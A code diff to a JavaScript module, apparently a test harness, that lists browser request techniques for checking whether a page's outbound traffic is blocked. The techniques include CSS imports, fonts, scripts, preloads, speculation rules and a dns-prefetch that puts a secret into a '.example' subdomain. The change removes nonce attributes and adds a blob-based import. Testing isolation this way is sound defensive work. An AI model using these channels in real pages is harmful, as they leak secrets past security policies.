@@ -5,14 +5,13 @@
  */
 export const WAYS = `(({ url, udp, tcp, secret, own, widget }) => {
   const at = (name) => url + '/' + name + '?' + secret
-  const nonce = document.querySelector('script[nonce]')?.nonce
   const add = (tag, values, parent = document.body) => {
     const element = Object.assign(document.createElement(tag), values)
     parent.append(element)
     return element
   }
-  const link = (values) => add('link', { nonce, ...values }, document.head)
-  const style = (text) => add('style', { nonce, textContent: text }, document.head)
+  const link = (values) => add('link', values, document.head)
+  const style = (text) => add('style', { textContent: text }, document.head)
   const click = (values) => add('a', values).click()
   const send = (name, values) => {
     const form = add('form', { action: at(name), ...values })
@@ -45,14 +44,16 @@ export const WAYS = `(({ url, udp, tcp, secret, own, widget }) => {
     audio: () => add('audio', { src: at('audio'), preload: 'auto' }),
     style: () => link({ rel: 'stylesheet', href: at('style') }),
     imported: () => style('@import "' + at('imported') + '";'),
+    importedByBlob: () =>
+      link({ rel: 'stylesheet', href: blobOf('@import "' + at('importedByBlob') + '";', 'text/css') }),
     background: () => style('body { background: url(' + at('background') + ') }'),
     font: () => {
       style('@font-face { font-family: x; src: url(' + at('font') + ') }')
       add('p', { textContent: 'x' }).style.fontFamily = 'x'
     },
     fontFace: () => new FontFace('y', 'url(' + at('fontFace') + ')').load(),
-    script: () => add('script', { nonce, src: at('script') }),
-    module: () => add('script', { nonce, type: 'module', src: at('module') }),
+    script: () => add('script', { src: at('script') }),
+    module: () => add('script', { type: 'module', src: at('module') }),
     dynamicImport: () => import(at('dynamicImport')),
     preload: () => link({ rel: 'preload', as: 'script', href: at('preload') }),
     modulePreload: () => link({ rel: 'modulepreload', href: at('modulePreload') }),
@@ -61,7 +62,6 @@ export const WAYS = `(({ url, udp, tcp, secret, own, widget }) => {
     dnsPrefetch: () => link({ rel: 'dns-prefetch', href: '//' + secret + '.example' }),
     speculation: () =>
       add('script', {
-        nonce,
         type: 'speculationrules',
         textContent: JSON.stringify({
           prefetch: [{ urls: [at('speculation')], eagerness: 'immediate' }],
